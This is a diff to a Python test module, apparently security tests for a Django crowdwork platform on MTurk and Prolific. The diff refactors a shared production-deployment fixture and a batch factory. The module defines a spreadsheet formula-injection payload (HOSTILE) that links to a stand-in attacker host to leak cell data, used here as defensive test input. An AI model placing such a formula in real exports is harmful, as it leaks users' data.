@@ -10,10 +10,12 @@ import html
 import io
 import random
 import uuid
+from contextlib import ExitStack, contextmanager
 from decimal import Decimal as D
 from urllib.parse import urlencode
 
 import pytest
+import redis
 import requests
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Permission
@@ -30,8 +32,9 @@ from crowd.work.publishing import batch_publish
 from ranking.channel_demo import local_prolific_starter
 from ranking.workflow import LOOP_LOCK_KEY
 from tests.attacks.deployment import PROLIFIC_TOKEN, production, trusting, window_fresh
+from tests.conftest import require_service
 from tests.crowd.conftest import TurkWorker
-from tests.crowd.factories import likert_batch
+from tests.crowd.factories import likert_batch, prolific_batch
 from tests.faults.topics import small_topic
 from tests.ranking.test_pipeline import answer_batch, start_likert
 from tests.ranking.test_workflow import campaign_with_topics
@@ -43,14 +46,38 @@ INVENTED = [f"5f0000000000000000fake{number:02d}" for number in range(10)]
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'
 
 
-@pytest.fixture
-def deploy(live_server, redis_url, settings):
-    """Start the production deployment; the test process publishes to the same marketplaces
-    (the local endpoints on its live server) with the deployment's public URL in every task."""
+@pytest.fixture(scope="module")
+def _shared(django_db_setup, live_server):
+    """One production deployment for the module's tests that need no variable of their own
+    (starting gunicorn and nginx is most of a short test's time); each test empties its
+    Redis counters first, and the database is the test's own as ever."""
+    with ExitStack() as stack:
+        started: list = []
 
+        def site():
+            if not started:
+                redis_url = require_service("SALIENCE_TEST_REDIS_URL", "Redis")
+                started.append(stack.enter_context(production(live_server_url=live_server.url, redis_url=redis_url)))
+            return started[0]
+
+        yield site
+
+
+@pytest.fixture
+def deploy(_shared, live_server, redis_url, settings):
+    """Start the production deployment (or reuse the module's, when no variable is set); the
+    test process publishes to the same marketplaces (the local endpoints on its live server)
+    with the deployment's public URL in every task."""
+
+    @contextmanager
     def start(**overrides: str):
-        site = production(live_server_url=live_server.url, redis_url=redis_url, **overrides)
-        return site
+        if overrides:
+            with production(live_server_url=live_server.url, redis_url=redis_url, **overrides) as site:
+                yield site
+            return
+        site = _shared()
+        redis.Redis.from_url(site.env["CACHE_URL"]).flushdb()  # no other test's counts carry over
+        yield site
 
     settings.MTURK_ENVIRONMENT = "local"
     settings.MTURK_LOCAL_ENDPOINT_URL = f"{live_server.url}/localturk/"
@@ -123,16 +150,7 @@ def test_f2_ten_invented_participants_take_no_place_and_see_no_code(deploy, live
     settings.PROLIFIC_COMPLETION_URL = f"{live_server.url}/localprolific/submissions/complete?cc={{code}}"
     with deploy() as site:
         settings.SITE_URL = site.url
-        batch = likert_batch(
-            propositions=15,
-            channel=Campaign.Channel.PROLIFIC,
-            environment="production",
-            production_enabled=True,
-            tasks_per_session=2,
-            assignments_per_hit=2,
-            likert_reward=D("0.15"),
-        )
-        batch.tasks.update(assignments_needed=2)
+        batch = prolific_batch(environment="production", production_enabled=True)
         batch_publish(batch_id=batch.pk, live=True)  # the researcher's explicit opt-in to real money
         study = Study.objects.get(batch=batch)
 
